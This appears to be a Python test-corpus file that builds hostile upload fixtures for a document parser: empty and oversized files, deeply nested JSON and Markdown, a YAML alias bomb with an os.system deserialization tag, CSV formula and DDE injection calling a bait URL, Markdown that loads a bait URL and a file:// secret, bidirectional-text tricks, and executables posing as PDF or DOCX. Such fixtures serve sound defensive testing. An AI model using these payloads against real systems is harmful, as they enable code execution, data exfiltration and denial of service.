"""Texts of absurd shape, and what only pretends to be text."""

from tests.uploads.hostile.corpus import READ, REFUSED, Bait, hostile

SHAPES = (READ, "too_large", "broken")


@hostile("nothing.txt", "empty")
def _(bait: Bait) -> bytes:
    return b""


@hostile("nothing.pdf", "empty")
def _(bait: Bait) -> bytes:
    return b""


@hostile("nothing.docx", "empty")
def _(bait: Bait) -> bytes:
    return b""


@hostile("blank.txt", "empty")
def _(bait: Bait) -> bytes:
    return b" \r\n\t" * 100_000


@hostile("a-million-columns.csv", *SHAPES)
def _(bait: Bait) -> bytes:
    return b",".join(b"c%d" % number for number in range(1_000_000)) + b"\n" + b"1," * 999_999 + b"1\n"


@hostile("quote-without-end.csv", *SHAPES)
def _(bait: Bait) -> bytes:
    return b'name,age\n"' + b"Ada,36\n" * 1_000_000


@hostile("formulas.csv", READ)
def _(bait: Bait) -> bytes:
    return f"name,value\n=WEBSERVICE(\"{bait.url}\"),1\n=cmd|' /C calc'!A0,2\n@SUM(1),3\n".encode()


@hostile("nothing-but-separators.csv", *SHAPES, "empty")
def _(bait: Bait) -> bytes:
    return (b"," * 10_000 + b"\n") * 300


@hostile("bottomless.json", *SHAPES)
def _(bait: Bait) -> bytes:
    return b"[" * 500_000 + b"]" * 500_000


@hostile("number-without-end.json", *SHAPES)
def _(bait: Bait) -> bytes:
    return b'{"a": ' + b"9" * 3_000_000 + b"}"


@hostile("one-line.txt", *SHAPES)
def _(bait: Bait) -> bytes:
    return b"word " * 3_000_000


@hostile("short-lines.txt", *SHAPES)
def _(bait: Bait) -> bytes:
    return b"a\n\n" * 50_000


@hostile("bottomless.md", *SHAPES)
def _(bait: Bait) -> bytes:
    return b"# Title\n\n" + b"> " * 50_000 + b"deep\n\n" + b"[" * 50_000 + b"\n" + b"*a " * 50_000 + b"\n- " * 50_000


@hostile("includes.md", READ)
def _(bait: Bait) -> bytes:
    return (
        f"# Title\n\n![a]({bait.url})\n\n![b](file://{bait.secret})\n\n<img src={bait.url}>\n{{{{ 7*7 }}}}\n".encode()
    )


@hostile("aliases-that-laugh.yaml", READ)
def _(bait: Bait) -> bytes:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"{b}: &{b} [{','.join(['*' + a] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)]
    return ("\n".join(lines) + "\n!!python/object/apply:os.system ['true']\n").encode()


@hostile("runs-on-reading.py", READ)
def _(bait: Bait) -> bytes:
    return f"import os, urllib.request\nurllib.request.urlopen('{bait.url}')\nos.system('touch escaped.txt')\n".encode()


@hostile("turned-around.txt", READ)
def _(bait: Bait) -> bytes:
    return "Pay \u202e000,1\u202c to \u2066the\u2069 account\ufeff\u200b.\x1b]0;title\x07\x1b[2J\n".encode()


@hostile("half-a-character.txt", READ)
def _(bait: Bait) -> bytes:
    return b"\xed\xa0\x80 \xf0\x9f \xc0\x80 \xff\xfe and text between\n" * 100


@hostile("half-a-pair.txt", READ)
def _(bait: Bait) -> bytes:
    return b"\xff\xfe" + ("text " * 100).encode("utf-16-le") + b"\x00\xd8" * 100


@hostile("program.pdf", REFUSED)
def _(bait: Bait) -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(5000)


@hostile("program.docx", REFUSED)
def _(bait: Bait) -> bytes:
    return b"MZ\x90\x00" + bytes(5000)


@hostile("text-then-noise.txt", REFUSED)
def _(bait: Bait) -> bytes:
    return b"This begins as a text.\n" + bytes(range(256)) * 20


@hostile("page-named.docx", READ)
def _(bait: Bait) -> bytes:
    return b"<!doctype html><html><body><h1>Hello</h1><p>This is the text.</p></body></html>"
